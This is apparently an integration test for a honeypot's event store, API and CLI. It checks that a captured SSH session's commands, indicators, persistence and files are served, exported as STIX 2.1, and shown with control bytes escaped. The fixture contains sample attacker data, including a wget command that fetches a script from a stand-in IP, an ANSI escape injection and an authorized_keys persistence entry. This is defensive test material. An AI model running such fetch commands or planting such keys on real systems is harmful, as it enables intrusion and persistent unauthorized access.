// What the traps' shell captured, as the operator sees it: trapd's own store writer fills
// trapd.sqlite in the node's state dir; the real apid serves it (/v1/events, /v1/events/{id},
// /v1/indicators as a list and as STIX 2.1) and the real CLI prints it (events show, events --json).
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { join } from "node:path";
import { openStore } from "@honeymesh/db/open";
import * as schema from "@honeymesh/tables/trapd";
import type { TrapSession } from "../../packages/schema/src/trap.ts";
import { SessionStore } from "../../services/trapd/src/store/session-store.ts";
import { ROOT } from "../support/bus-node.ts";
import { ApiNode } from "./harness.ts";

const FP = "SHA256:5RacG7NHBJZocKYsZYegLXc9tmdeUHGMP8uH5F/v/5s";
const SHA = "b0abe1fc3221488396cb845b73dad2a0838923837dfd67247b06e596fff3f2c3";
const now = Date.now();
const shellSession: TrapSession = {
  session_id: "cap-000001", service: "ssh", src: "198.51.100.70", src_port: 40000, dst: "192.0.2.1", dst_port: 2222, started_at: now - 5000, ended_at: now, bytes_in: 900, bytes_out: 2000,
  credentials: [{ method: "password", username: "root", password: "123456" }], payload_b64: "", entropy: 4, meta: { login: "root" }, end_reason: "closed",
  commands: ["uname -a", "wget http://203.0.113.50/bins/x.sh -O /tmp/x\x1b[2J"], command_at: [1200, 3400],
  indicators: { urls: ["http://203.0.113.50/bins/x.sh"], hosts: ["203.0.113.50"] },
  persistence: [{ kind: "authorized_key", path: "/root/.ssh/authorized_keys", detail: "ssh-ed25519 bot", key_fingerprint: FP }],
  files: [{ sha256: SHA, size: 5000, name: "/tmp/a.bin", via: "scp", stored: true }],
  transcript: "cap-000001.cast",
};

let n: ApiNode;
beforeAll(async () => {
  n = await new ApiNode().start();
  const store = new SessionStore(openStore({ path: join(n.node.stateDir, "trapd.sqlite"), schema, migrationsFolder: join(ROOT, "services/trapd/drizzle") }));
  store.add(shellSession);
  store.add({ ...shellSession, session_id: "cap-000002", src: "198.51.100.71", commands: [], command_at: undefined, indicators: undefined, persistence: undefined, files: undefined, transcript: undefined });
  store.close();
});
afterAll(() => n?.stop());

describe("a trap shell session through apid and the CLI", () => {
  test("GET /v1/events and /v1/events/{id} carry commands with times, indicators, persistence, files", async () => {
    const page = await n.req("GET", "/v1/events?src=198.51.100.70");
    expect(page.status).toBe(200);
    expect(page.json.items[0]).toMatchObject({ session_id: "cap-000001", command_at: [1200, 3400], indicators: shellSession.indicators, persistence: shellSession.persistence, files: shellSession.files });
    const one = await n.req("GET", "/v1/events/cap-000001");
    expect(one.json).toMatchObject({ commands: shellSession.commands, transcript: "cap-000001.cast" });
    expect((await n.req("GET", "/v1/events/cap-000002")).json.indicators).toBeUndefined();
  });

  test("GET /v1/indicators: the URL, host, key and file; as STIX 2.1 patterns", async () => {
    const list = (await n.req("GET", "/v1/indicators")).json.items as { type: string; value: string; sources: string[] }[];
    expect(list.map((i) => `${i.type} ${i.value}`).sort()).toEqual([`file ${SHA}`, "host 203.0.113.50", `ssh-key ${FP}`, "url http://203.0.113.50/bins/x.sh"]);
    expect(list[0]!.sources).toEqual(["198.51.100.70"]);
    const stix = (await n.req("GET", "/v1/indicators?format=stix")).json;
    expect(stix.type).toBe("bundle");
    expect(stix.objects.map((o: { pattern: string }) => o.pattern)).toContain("[url:value = 'http://203.0.113.50/bins/x.sh']");
  });

  test("honeymesh events show <id> prints it (attacker control bytes escaped); events --json includes it", async () => {
    const r = await n.cli(["events", "show", "cap-000001"]);
    expect(r.code).toBe(0);
    expect(r.out).toContain("+3.4s");
    expect(r.out).toContain("wget http://203.0.113.50/bins/x.sh -O /tmp/x\\x1b[2J");
    expect(r.out).not.toContain("\x1b[2J");
    expect(r.out).toContain(`authorized_key /root/.ssh/authorized_keys: ssh-ed25519 bot (${FP})`);
    expect(r.out).toContain(`${SHA} 5000 B scp /tmp/a.bin (quarantined)`);
    expect((await n.cli(["events", "show", "nope-0000"])).code).toBe(1);
    const json = JSON.parse((await n.cli(["events", "--json", "--src", "198.51.100.70"])).out);
    expect(json[0]).toMatchObject({ commands: shellSession.commands, indicators: shellSession.indicators });
  });
});
